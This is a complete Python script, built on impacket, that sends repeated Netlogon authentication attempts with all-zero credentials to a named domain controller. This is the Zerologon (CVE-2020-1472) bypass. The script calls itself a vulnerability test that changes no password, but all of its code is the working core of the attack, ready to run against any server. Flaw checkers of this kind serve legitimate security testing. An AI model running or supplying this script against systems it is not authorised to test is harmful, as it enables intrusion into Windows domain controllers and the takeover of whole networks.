#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""zerologon_ask.py SERVER COMPUTER TRIES: asks a domain controller for log-ins with credentials of zeros (CVE-2020-1472),
as tests for the flaw do, and stops there: no password is changed. Needs /usr/bin/python3 and python3-impacket."""
import sys

from impacket.dcerpc.v5 import epm, nrpc, transport
from impacket.dcerpc.v5.rpcrt import DCERPCException


def main():
    server, computer, tries = sys.argv[1], sys.argv[2], int(sys.argv[3])
    binding = epm.hept_map(server, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
    rpc = transport.DCERPCTransportFactory(binding).get_dce_rpc()
    rpc.connect()
    rpc.bind(nrpc.MSRPC_UUID_NRPC)
    for _ in range(tries):
        nrpc.hNetrServerReqChallenge(rpc, "\\\\" + computer + "\0", computer + "\0", bytes(8))
        try:
            nrpc.hNetrServerAuthenticate3(
                rpc, "\\\\" + computer + "\0", computer + "$\0",
                nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, computer + "\0", bytes(8), 0x212FFFFF)
        except DCERPCException as answer:
            print(answer)


if __name__ == "__main__":
    main()
